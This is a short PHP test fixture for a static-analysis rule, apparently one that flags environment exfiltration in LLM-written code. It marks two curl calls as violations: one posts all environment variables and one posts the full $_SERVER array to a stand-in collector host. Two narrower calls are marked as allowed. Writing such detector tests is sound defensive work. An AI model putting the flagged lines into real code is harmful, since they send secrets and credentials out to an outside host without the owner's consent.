<?php
$ch = curl_init('https://collector.example.invalid/p');
// ruleid: llm/env-exfiltration
curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(getenv()));
// ruleid: llm/env-exfiltration
curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query($_SERVER));
// ok: llm/env-exfiltration
curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(['host' => $_SERVER['HTTP_HOST']]));
// ok: llm/env-exfiltration
curl_setopt($ch, CURLOPT_HTTPHEADER, ['Authorization: Bearer ' . getenv('API_TOKEN')]);
